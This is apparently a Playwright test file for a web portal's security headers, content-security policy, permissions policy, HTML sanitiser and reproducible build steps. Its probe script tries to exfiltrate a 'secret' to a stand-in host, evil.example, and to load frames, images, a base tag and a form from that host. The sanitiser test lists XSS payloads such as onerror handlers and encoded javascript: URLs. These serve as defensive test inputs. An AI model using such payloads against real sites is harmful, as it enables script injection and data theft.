// What each header of the table is for: a page tries what it forbids and what the portal needs, and without any one header
// or directive something comes out otherwise.
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { isDeepStrictEqual } from 'node:util';
import { test } from '@playwright/test';
import { expect } from '../support/journey.mjs';
import { filesOf, makeReady } from '../../../web/hosting/make.mjs';
import { REDIRECT_PAGE, asHeader, asMeta, headersOf, origins, pagePolicy, redirectPolicy } from '../../../web/hosting/policy.mjs';
import { inert } from '../../../web/js/inert.js';
import { listen } from '../support/listen.mjs';
import { portalDist } from '../support/programs.mjs';
import { servePortal } from '../support/portal-server.mjs';

const POLICY = 'Content-Security-Policy';

/** With all headers: what a page of the portal's host was refused, and what worked there. */
const HERE = {
  refused: ['base-uri', 'connect-src', 'font-src', 'form-action', 'frame-src', 'img-src', 'object-src', 'require-trusted-types-for', 'trusted-types'],
  sniffed: false,
  camera: false,
  fetched: true,
  styled: true,
  pictured: true,
  framing: true,
};

/** The same of the redirect page: nothing but its own script and style. */
const REDIRECTED = { ...HERE, fetched: false, pictured: false, framing: false };

/** With all headers: what a page of another host can do with it. */
const ABROAD = { referrer: undefined, framed: false, opener: false, embedded: false };

/** The headers and the directive whose lack is seen from there. */
const SEEN_ABROAD = ['frame-ancestors', 'Cross-Origin-Opener-Policy', 'Cross-Origin-Resource-Policy', 'Referrer-Policy'];

const PROBE = `<!doctype html><link rel="stylesheet" href="app.css"><script src="probe.txt"></script><script type="module" src="probe.js"></script>
<iframe name="own" title="own" src="own.html"></iframe><iframe name="sink" title="sink"></iframe><img alt="" src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="><embed src="favicon.svg">`;

/** Runs in the page: everything that a policy could refuse. */
const SCRIPT = `
const refused = new Set();
document.addEventListener('securitypolicyviolation', (event) => refused.add(event.effectiveDirective));
const tried = async (work) => { try { await work(); } catch {} };
const fetched = await fetch('config.json').then((answer) => answer.ok, () => false);
await tried(() => fetch('https://evil.example/?secret'));
await tried(() => new FontFace('x', 'url(data:font/woff2;base64,AA)').load());
await tried(() => (document.createElement('div').innerHTML = '<b>x</b>'));
await tried(() => trustedTypes.createPolicy('other', {}));
const add = (name, members) => document.body.append(Object.assign(document.createElement(name), members));
add('img', { src: 'https://evil.example/x.png' });
add('iframe', { src: 'https://evil.example/' });
add('base', { href: 'https://evil.example/' });
const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', target: 'sink' });
document.body.append(form);
form.submit();
window.parent.postMessage('framed', '*');
globalThis.result = () => ({ refused: [...refused].sort(), sniffed: Boolean(globalThis.sniffed), camera: document.featurePolicy.allowsFeature('camera'),
  fetched, styled: getComputedStyle(document.documentElement).getPropertyValue('--colorNeutralBackground1') !== '', pictured: document.images[0].naturalWidth > 0, framing: framing() });
function framing() {
  try { return frames.own.document.title !== ''; } catch { return false; }
}
`;

/** A page of another site: it frames the portal, opens it, and shows a picture of it. */
const OTHER = (probe, home) => `<!doctype html><script>
  const found = { framed: false, embedded: false };
  addEventListener('message', () => (found.framed = true));
  const open = () => window.open('${probe}');
</script><iframe title="portal" src="${probe}"></iframe><img alt="" src="${home}favicon.svg" onload="found.embedded = true">`;

const without = (object, name) => Object.fromEntries(Object.entries(object).filter(([key]) => key !== name));

for (const { name, policyOf, expected, what } of [
  { name: 'probe.html', policyOf: pagePolicy, expected: HERE, what: 'header or directive' },
  { name: REDIRECT_PAGE, policyOf: redirectPolicy, expected: REDIRECTED, what: 'directive of the redirect page' },
]) {
  test(`without any one ${what}, something comes out otherwise`, async ({ browser }) => {
    const site = await servePortal({ dist: portalDist() });
    const hosts = origins({ clientId: 'some' });
    const all = without(headersOf(name, hosts), POLICY);
    const whole = policyOf(hosts);
    let answer = {};
    let referrer;
    site.files[name] = PROBE;
    site.files['probe.js'] = SCRIPT;
    site.files['probe.txt'] = 'globalThis.sniffed = true;';
    site.files['own.html'] = '<!doctype html><title>own</title>';
    site.headers = (file) => (file === 'own.html' ? {} : { ...answer.headers, [POLICY]: asHeader(answer.policy) });
    const other = await listen((request, response) => {
      referrer = request.headers.referer;
      response.setHeader('Content-Type', 'text/html').end(OTHER(site.url + name, site.url));
    });
    const otherHome = `http://127.0.0.1:${other.port}/`;

    /** What comes of it all with these headers. */
    async function outcome(headers, policy, isAbroad) {
      answer = { headers, policy };
      const context = await browser.newContext();
      await context.route('https://evil.example/**', (route) => route.abort());
      try {
        const page = await context.newPage();
        await page.goto(site.url + name);
        return await (isAbroad ? abroad(context, page) : here(page));
      } finally {
        await context.close();
      }
    }

    async function here(page) {
      // a policy that refuses our own scripts refuses the probe
      const ran = await page.waitForFunction(() => globalThis.result, undefined, { timeout: 2_000 }).then(() => true, () => false);
      await page.waitForTimeout(200);
      return ran ? page.evaluate(() => globalThis.result()) : {};
    }

    async function abroad(context, page) {
      await page.waitForTimeout(500);
      await page.evaluate((url) => void (location.href = url), otherHome);
      await page.waitForURL(otherHome);
      await page.waitForLoadState();
      const referredBy = referrer;
      const opened = context.waitForEvent('page');
      await page.evaluate('void open()');
      const tab = await opened;
      await tab.waitForLoadState();
      const opener = await tab.evaluate(() => window.opener !== null);
      return { referrer: referredBy, opener, ...(await page.evaluate('found')) };
    }

    try {
      expect(await outcome(all, whole, false)).toEqual(expected);
      expect(await outcome(all, whole, true)).toEqual(ABROAD);
      const missed = [];
      for (const directive of Object.keys(whole)) {
        const isAbroad = SEEN_ABROAD.includes(directive);
        // what no directive names is held by default-src: plug-ins are refused by both
        const base = directive === 'object-src' ? without(whole, 'default-src') : whole;
        const before = base === whole ? (isAbroad ? ABROAD : expected) : await outcome(all, base, false);
        if (isDeepStrictEqual(await outcome(all, without(base, directive), isAbroad), before)) missed.push(directive);
      }
      // encryption is not asked for on this computer: half a year at least; the cache has its own test
      expect(Number(/^max-age=(\d+)/.exec(all['Strict-Transport-Security'])?.[1])).toBeGreaterThan(15_000_000);
      for (const header of Object.keys(without(without(all, 'Strict-Transport-Security'), 'Cache-Control'))) {
        const isAbroad = SEEN_ABROAD.includes(header);
        if (isDeepStrictEqual(await outcome(without(all, header), whole, isAbroad), isAbroad ? ABROAD : expected)) missed.push(header);
      }
      expect(missed).toEqual([]);
    } finally {
      await Promise.all([site.close(), other.close()]);
    }
  });
}

test('each feature that the portal has no use for is refused by its own words', async ({ page }) => {
  const policy = headersOf('index.html', origins({ clientId: 'some' }))['Permissions-Policy'].split(', ');
  const features = ['accelerometer', 'camera', 'display-capture', 'geolocation', 'hid', 'microphone', 'payment', 'publickey-credentials-get', 'serial', 'usb'];
  let given;
  const site = await listen((_, response) => response.setHeader('Permissions-Policy', given.join(', ')).setHeader('Content-Type', 'text/html').end('<!doctype html>'));
  const allowed = async (without) => {
    given = policy.filter((one) => one !== without);
    await page.goto(`http://127.0.0.1:${site.port}/`);
    return page.evaluate(() => document.featurePolicy.allowedFeatures());
  };
  try {
    const usual = await allowed();
    expect(usual).toContain('clipboard-write');
    expect(usual.filter((name) => features.includes(name))).toEqual([]);
    for (const one of policy) expect((await allowed(one)).filter((name) => !usual.includes(name)), one).toEqual([one.replace('=()', '')]);
  } finally {
    await site.close();
  }
});

test('the pages have the policy of the table', () => {
  const read = (name) => readFileSync(new URL(`../../../${name}`, import.meta.url), 'utf8');
  expect(read('index.html')).toContain(`content="${asMeta(pagePolicy(origins()))}"`);
  expect(read('web/static/auth.html')).toContain(`content="${asMeta(redirectPolicy())}"`);
});

test('a config.json names the hosts of the policy, and no other', () => {
  expect(origins({ clientId: 'x' })).toEqual({ signIn: ['https://login.microsoftonline.com'], graph: ['https://graph.microsoft.com'] });
  expect(origins({ clientId: 'x', cloud: 'china' }).graph).toEqual(['https://microsoftgraph.chinacloudapi.cn']);
  expect(origins({ clientId: 'x', authority: 'https://id.example/t', graphBaseUrl: 'https://graph.example', authorityMetadata: '{"token_endpoint":"https://t.example/a"}' })).toEqual({
    signIn: ['https://id.example', 'https://t.example'],
    graph: ['https://graph.example'],
  });
  for (const wrong of ['http://graph.example', 'https://a;b', "https://x 'unsafe-inline'", 'https://u@graph.example', 'graph.example', 'javascript:1']) {
    expect(() => origins({ clientId: 'x', graphBaseUrl: wrong }), wrong).toThrow('no address');
  }
  expect(() => origins({ clientId: 'x', cloud: 'moon' })).toThrow('`moon`');
});

test('markup becomes elements only where it can do nothing', () => {
  for (const good of ['<h2 id="a" tabindex="-1">Access</h2>', '<li><p>one &amp; <strong>two</strong></p></li>', '<a class="button" href="rules/index.html" rel="external">All</a>', '<span aria-hidden="true">‹</span>']) {
    expect(inert(good), good).toBe(true);
  }
  const bad = ['<script>1</script>', '<img src=x onerror=alert(1)>', '<p onclick="x">', '<p class="a"onclick="x">', '<p/onclick=x>', '<p\nonclick="x">', '<p style="x">', '<iframe src="x">', '<form>', '<base href="x">', '<style>', '<svg><script>', '<use href="#x">', '<!--', '<p title="<script>">',
    '<a href="javascript:alert(1)">', '<a href="&#106;avascript:x">', '<a href="//evil.example">', '<a href="/\\evil.example">', '<a href="https://evil.example/">', '<a href="x" href="javascript:1">', '<a xlink:href="x">', '<button formaction="x">'];
  for (const markup of bad) expect(inert(markup), markup).toBe(false);
});

test('the script that registers the portal writes its config.json', () => {
  const folder = mkdtempSync(path.join(tmpdir(), 'accesspack-register-'));
  // the Azure CLI, as far as the script needs it
  const az = `#!/usr/bin/env bash
echo "$*" >> "${folder}/calls"
case "$1 $2 $3" in
  "ad app create") echo 11111111-1111-4111-8111-111111111111 ;;
  "ad app show") echo 22222222-2222-4222-8222-222222222222 ;;
  "ad sp show") echo "id of \${6}" ;;
  "cloud show --query") echo https://graph.microsoft.com/ ;;
  "account show --query") echo 33333333-3333-4333-8333-333333333333 ;;
esac
`;
  writeFileSync(path.join(folder, 'az'), az, { mode: 0o755 });
  const script = new URL('../../../web/hosting/register.sh', import.meta.url).pathname;
  execFileSync('bash', [script, 'https://portal.example/access'], { cwd: folder, env: { ...process.env, PATH: `${folder}:${process.env.PATH}` } });
  expect(JSON.parse(readFileSync(path.join(folder, 'config.json'), 'utf8'))).toEqual({ clientId: '11111111-1111-4111-8111-111111111111', tenantId: '33333333-3333-4333-8333-333333333333' });
  const calls = readFileSync(path.join(folder, 'calls'), 'utf8');
  expect(calls).toContain('{"spa":{"redirectUris":["https://portal.example/access/auth.html","https://portal.example/access/"]}}');
  expect(calls.match(/ad app permission add/g)).toHaveLength(4);
});

test('a portal is made ready the same way each time, with the hashes of what it loads', () => {
  const dist = mkdtempSync(path.join(tmpdir(), 'accesspack-ready-'));
  const source = (name) => new URL(`../../../${name}`, import.meta.url);
  for (const page of ['index.html', '404.html']) copyFileSync(source('index.html'), path.join(dist, page));
  copyFileSync(source('web/static/auth.html'), path.join(dist, 'auth.html'));
  for (const name of ['app.css', 'accesspack-web.js', 'accesspack-web_bg.wasm', 'auth.js', 'boot.js', 'fluent.js', 'msal-AB12.js']) writeFileSync(path.join(dist, name), `/* ${name} */\n`.repeat(50));
  mkdirSync(path.join(dist, 'chunks-0a1b'));
  writeFileSync(path.join(dist, 'chunks-0a1b/split_lists.wasm'), 'wasm'.repeat(50));
  const config = path.join(dist, '..', `${path.basename(dist)}.json`);
  writeFileSync(config, '{ "clientId": "x" }');
  const read = () => Object.fromEntries(filesOf(dist).map((name) => [name, readFileSync(path.join(dist, name), 'base64')]));

  makeReady(dist, { config, release: '1.2.3', commit: 'abc' });
  const once = read();
  makeReady(dist, { config });
  expect(read()).toEqual(once);

  const page = readFileSync(path.join(dist, 'index.html'), 'utf8');
  const named = (name) => filesOf(dist).find((file) => file.replace(/\.[0-9a-f]{16}(\.\w+)$/, '$1') === name);
  for (const name of ['app.css', 'accesspack-web.js', 'accesspack-web_bg.wasm', 'boot.js']) {
    const file = named(name);
    const hashed = (kind, form) => createHash(kind).update(readFileSync(path.join(dist, file))).digest(form);
    expect(file).toBe(name.replace(/\.(\w+)$/, `.${hashed('sha256', 'hex').slice(0, 16)}.$1`));
    const hash = hashed('sha384', 'base64');
    expect(page).toContain(`"${file}" ${name.endsWith('.wasm') ? 'data-' : ''}integrity="sha384-${hash}"`);
  }
  for (const name of ['accesspack-web.js', 'fluent.js']) {
    expect(page).toContain(`"./${name}":"./${named(name)}"`);
    expect(page).toContain(`"./${named(name)}":"sha384-`);
  }
  expect(readFileSync(path.join(dist, 'auth.html'), 'utf8')).toContain(`href="${named('app.css')}"`);
  expect(page).toContain("connect-src 'self' https://graph.microsoft.com https://login.microsoftonline.com;");
  const headers = readFileSync(path.join(dist, '_headers'), 'utf8');
  for (const route of ['/chunks-0a1b/*', '/msal-AB12.js', `/${named('boot.js')}`]) expect(headers).toContain(`${route}\n  Cache-Control: public, max-age=31536000, immutable`);
  const fresh = ['404.html', '_headers', '_redirects', 'auth.html', 'auth.js', 'config.json', 'index.html', 'service-worker.js', 'staticwebapp.config.json', 'version.json'];
  const isFresh = (name) => fresh.includes(name) || name.startsWith('hosting/');
  for (const name of [...filesOf(dist).filter((name) => !/\.(br|gz)$/.test(name)), 'service-worker.js']) {
    expect(headersOf(name, origins())['Cache-Control'], name).toBe(isFresh(name) ? 'no-cache' : 'public, max-age=31536000, immutable');
  }
  const { version, commit, files } = JSON.parse(readFileSync(path.join(dist, 'version.json'), 'utf8'));
  const boot = named('boot.js');
  expect([version, commit, files[boot]]).toEqual(['1.2.3', 'abc', createHash('sha256').update(readFileSync(path.join(dist, boot))).digest('hex')]);
  expect(filesOf(dist)).toEqual(expect.arrayContaining([`${boot}.br`, `${boot}.gz`, 'chunks-0a1b/split_lists.wasm.br']));
  expect(filesOf(dist)).not.toContain('config.json.br');
});

test('an archive is the same each time, and its files are as old as its commit', () => {
  const folder = mkdtempSync(path.join(tmpdir(), 'accesspack-zip-'));
  mkdirSync(path.join(folder, 'site/inner'), { recursive: true });
  for (const name of ['b.txt', 'a.txt', 'inner/c.txt']) writeFileSync(path.join(folder, 'site', name), name.repeat(50));
  const script = new URL('../../../crates/xtask/src/release/zip.mjs', import.meta.url).pathname;
  const zip = (seconds) => {
    const archive = path.join(folder, 'site.zip');
    execFileSync('node', [script, path.join(folder, 'site'), archive, 'site-1'], { env: { ...process.env, SOURCE_DATE_EPOCH: String(seconds) } });
    return readFileSync(archive);
  };
  const commit = Date.UTC(2030, 5, 7, 8, 9, 10) / 1_000;
  const first = zip(commit);
  expect(zip(commit)).toEqual(first);
  expect(first.indexOf('site-1/a.txt')).toBe(30);
  // a host would take a file of the next release for the one that it served before
  const [time, day] = [first.readUInt16LE(10), first.readUInt16LE(12)];
  expect([time >> 11, (time >> 5) & 63, (time & 31) * 2, (day >> 9) + 1980, (day >> 5) & 15, day & 31]).toEqual([8, 9, 10, 2030, 6, 7]);
  expect(zip(commit + 2)).not.toEqual(first);
});
